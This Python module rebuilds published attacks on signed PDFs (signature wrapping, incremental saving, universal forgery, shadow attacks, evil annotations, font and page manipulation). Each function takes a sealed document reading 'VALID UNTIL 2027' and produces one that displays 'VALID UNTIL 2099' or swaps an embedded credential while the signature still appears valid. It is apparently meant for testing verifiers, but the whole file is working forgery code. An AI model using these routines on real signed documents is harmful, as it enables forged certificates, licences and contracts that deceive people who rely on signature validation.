"""Published attacks on signed PDF documents, rebuilt: each takes a sealed document and answers one that shows something else.

Signature wrapping, incremental saving, universal forgery: Mladenov et al., CCS 2019. Shadow attacks: Mainka et al., NDSS 2021.
Evil annotations and sneaky signatures: Rohlmann et al., IEEE S&P 2021. Built from their descriptions.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

TRUE_TEXT = "VALID UNTIL 2027"
FORGED_TEXT = "VALID UNTIL 2099"
SIZE = (300, 200)


def page_stream(text: str, y: int = 100) -> bytes:
    return f"BT /F1 20 Tf 40 {y} Td ({text}) Tj ET".encode()


def document(
    *, spare: bool = False, overlay: bool = False, form: bool = False, script: bool = False
) -> bytes:
    """A page that says :data:`TRUE_TEXT`, with what an attacker would have prepared before it is sealed.

    Args:
        spare: a second content stream that no page uses.
        overlay: a white form that hides the text, as in a shadow attack.
        form: a text field.
        script: JavaScript that runs when it is opened.
    """
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    cover = pdf.make_stream(
        b"1 1 1 rg 0 80 300 60 re f" if overlay else b"",
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Form,
        BBox=[0, 0, *SIZE],
    )
    page = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Page,
            MediaBox=[0, 0, *SIZE],
            Resources=pikepdf.Dictionary(
                Font=pikepdf.Dictionary(F1=font), XObject=pikepdf.Dictionary(C=cover)
            ),
            Contents=pdf.make_stream(page_stream(TRUE_TEXT) + b" /C Do"),
        )
    )
    pdf.pages.append(pikepdf.Page(page))
    second = pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, *SIZE], Resources=page.Resources)
    second.Contents = pdf.make_stream(page_stream("SECOND PAGE"))
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(second)))
    if spare:
        pdf.Root.Spare = pdf.make_stream(page_stream(FORGED_TEXT))
    if form:
        field = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Tx,
                T="amount",
                V="100",
                F=4,
                Rect=[40, 20, 200, 50],
                DA="/F1 12 Tf 0 g",
            )
        )
        pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=[field], SigFlags=3))
        pdf.pages[0].obj.Annots = pikepdf.Array([field])
    if script:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    pdf.attachments["credential.txt"] = b"the true credential"
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, deterministic_id=True)
    return out.getvalue()


def updated(sealed: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """An incremental update, well-formed."""
    writer = IncrementalPdfFileWriter(io.BytesIO(sealed))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def first_page(writer: IncrementalPdfFileWriter) -> Any:
    return writer.root["/Pages"]["/Kids"][0]


def replace_text(writer: IncrementalPdfFileWriter) -> None:
    page = first_page(writer)
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=page_stream(FORGED_TEXT)))
    writer.update_container(page)


def use_spare(writer: IncrementalPdfFileWriter) -> None:
    """Shadow, hide and replace: what is shown now was signed, and never shown."""
    page = first_page(writer)
    page["/Contents"] = writer.root.raw_get("/Spare")
    writer.update_container(page)


def uncover(writer: IncrementalPdfFileWriter) -> None:
    """Shadow, hide: what covered the text when it was sealed is taken away."""
    _set_overlay(writer, b"")


def cover(writer: IncrementalPdfFileWriter) -> None:
    """An overlay that was empty when it was sealed."""
    _set_overlay(writer, b"1 1 1 rg 0 80 300 60 re f")


def _set_overlay(writer: IncrementalPdfFileWriter, data: bytes) -> None:
    forms = first_page(writer)["/Resources"]["/XObject"]
    held = forms["/C"]
    look = generic.StreamObject(stream_data=data)
    look.update({pdf_name(key): held.raw_get(key) for key in ("/Type", "/Subtype", "/BBox")})
    forms["/C"] = writer.add_object(look)
    writer.update_container(forms)


def swap_font(writer: IncrementalPdfFileWriter) -> None:
    """Shadow, replace: another font shows other characters for the same codes."""
    font = first_page(writer)["/Resources"]["/Font"]["/F1"]
    font["/Encoding"] = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Encoding"),
            pdf_name("/Differences"): generic.ArrayObject([generic.NumberObject(50), pdf_name("/nine")]),
        }
    )
    writer.update_container(font)


def fill_field(writer: IncrementalPdfFileWriter) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0]
    field["/V"] = generic.TextStringObject("999999")
    writer.update_container(field)


def swap_pages(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"] = generic.ArrayObject(reversed(list(pages["/Kids"])))
    writer.update_container(pages)


def drop_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"] = generic.ArrayObject(list(pages["/Kids"])[:1])
    pages["/Count"] = generic.NumberObject(1)
    writer.update_container(pages)


def swap_attachment(writer: IncrementalPdfFileWriter) -> None:
    tree = writer.root["/Names"]["/EmbeddedFiles"]
    while "/Names" not in tree:
        tree = tree["/Kids"][0]
    specification = tree["/Names"][1]
    stream = writer.add_object(generic.StreamObject(stream_data=b"another licence's credential"))
    specification["/EF"] = generic.DictionaryObject({pdf_name("/F"): stream, pdf_name("/UF"): stream})
    writer.update_container(specification)


def add_script(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/OpenAction"] = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.TextStringObject("app.alert(1)")}
    )
    writer.update_root()


def rotate(writer: IncrementalPdfFileWriter) -> None:
    page = first_page(writer)
    page["/Rotate"] = generic.NumberObject(180)
    writer.update_container(page)


def crop(writer: IncrementalPdfFileWriter) -> None:
    page = first_page(writer)
    page["/CropBox"] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 300, 90)])
    writer.update_container(page)


def annotation(subtype: str) -> Callable[[IncrementalPdfFileWriter], None]:
    """Evil annotation: an appearance that covers the text and says something else."""

    def put(writer: IncrementalPdfFileWriter) -> None:
        page = first_page(writer)
        look = generic.StreamObject(
            stream_data=b"1 1 1 rg 0 0 300 60 re f 0 g " + page_stream(FORGED_TEXT, 20)
        )
        look.update(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 300, 60)]),
                pdf_name("/Resources"): page["/Resources"],
            }
        )
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(subtype),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/Contents"): generic.TextStringObject(FORGED_TEXT),
                pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 80, 300, 140)]),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)}),
            }
        )
        held = list(page["/Annots"]) if "/Annots" in page else []
        page["/Annots"] = generic.ArrayObject([*held, writer.add_object(note)])
        writer.update_container(page)

    return put


def move_seal_picture(writer: IncrementalPdfFileWriter) -> None:
    """The seal's own field grows over the page."""
    field = writer.root["/AcroForm"]["/Fields"][0]
    field["/Rect"] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 300, 200)])
    writer.update_container(field)


def forget_seal(writer: IncrementalPdfFileWriter) -> None:
    """The document no longer says that it was sealed."""
    for key in ("/AcroForm", "/Perms"):
        if key in writer.root:
            del writer.root[key]
    writer.update_root()


# -- bytes ------------------------------------------------------------------------------------------------------------


def incremental_body_only(sealed: bytes) -> bytes:
    """Incremental saving: a new content stream and page, and no cross references at all."""
    number, stream = page_contents(sealed)
    del stream
    data = page_stream(FORGED_TEXT)
    return sealed + b"\n%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number, len(data), data)


def incremental_old_references(sealed: bytes) -> bytes:
    """The same, ended like a revision that points to the old cross references."""
    start = re.findall(rb"startxref\s+(\d+)", sealed)[-1]
    return incremental_body_only(sealed) + b"startxref\n%s\n%%%%EOF\n" % start


def page_contents(pdf: bytes) -> tuple[int, bytes]:
    """Object number and data of the first page's content."""
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        contents = opened.pages[0].obj.Contents
        return contents.objgen[0], contents.read_bytes()


def stretches(sealed: bytes) -> tuple[int, int, int]:
    """First stretch, start of the second, its length."""
    found = re.search(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", sealed)
    assert found is not None
    first, second, third = (int(number) for number in found.groups())
    return first, second, third


def wrap(sealed: bytes) -> bytes:
    """Signature wrapping: what was signed moves apart, and between stand other cross references for another page.

    The signed end of the file says where the cross references are; that place is the attacker's now. They name a copy of the
    signature whose stretches fit, so the digest is right.
    """
    before, after, length = stretches(sealed)
    where = int(re.findall(rb"startxref\s+(\d+)", sealed)[-1])
    tail = sealed[after : after + length]
    number, _ = page_contents(sealed)
    signature, text = signature_object(sealed)
    old_trailer = re.findall(rb"trailer\s*(<<.*?>>)\s*startxref", sealed, re.DOTALL)[-1]
    newest = newest_references(sealed, where)
    contents = sealed[before:after]
    data = page_stream(FORGED_TEXT)

    def build(moved: int) -> tuple[bytes, int]:
        room = contents + b"\n"
        room += b" " * (where - before - len(room))
        ranges = b"/ByteRange [0 %d %d %d]" % (before, moved, length)
        forged = re.sub(rb"/ByteRange\s*\[[^\]]*\]\s*", ranges, text, count=1)
        # The table stands where the file's end points to; what it names follows it.
        size = 2000 + len(old_trailer)
        first = where + size
        second_object = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (
            number,
            len(data),
            data,
        )
        first_object = b"%d 0 obj\n%s\nendobj\n" % (signature, forged)
        page_at = [first, first + len(first_object)]
        held = {one: place if place < before else place + moved - after for one, place in newest.items()}
        rows = sorted((held | {signature: page_at[0], number: page_at[1]}).items())
        table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % row for row in rows)
        table += b"trailer\n" + old_trailer + b"\nstartxref\n%d\n%%%%EOF\n" % where
        table += b" " * (size - len(table))
        middle = room + table + first_object + second_object
        return sealed[:before] + middle + tail, before + len(middle)

    _, moved = build(10**7)
    for _ in range(3):
        forged, moved_now = build(moved)
        if moved_now == moved:
            break
        moved = moved_now
    return forged


def newest_references(sealed: bytes, where: int) -> dict[int, int]:
    """Object → place, of the newest table."""
    found: dict[int, int] = {}
    lines = iter(sealed[where:].split(b"\n")[1:])
    for line in lines:
        if line.strip() == b"trailer":
            break
        first, count = (int(number) for number in line.split())
        for number in range(first, first + count):
            place, _, kind = next(lines).split()
            if kind == b"n":
                found[number] = int(place)
    return found


def signature_object(sealed: bytes) -> tuple[int, bytes]:
    """Number and text of the object that holds the signature."""
    at = sealed.index(b"/ByteRange")
    start = sealed.rindex(b" obj", 0, at)
    number = int(re.findall(rb"(\d+) 0$", sealed[:start])[-1])
    end = sealed.index(b"endobj", at)
    return number, sealed[start + 4 : end].strip()


def hollow(sealed: bytes, what: bytes, instead: bytes) -> bytes:
    """The same file with a few bytes of the signature object replaced by as many; universal forgery."""
    assert sealed.count(what) >= 1, what
    assert len(instead) <= len(what)
    return sealed.replace(what, instead.ljust(len(what)), 1)
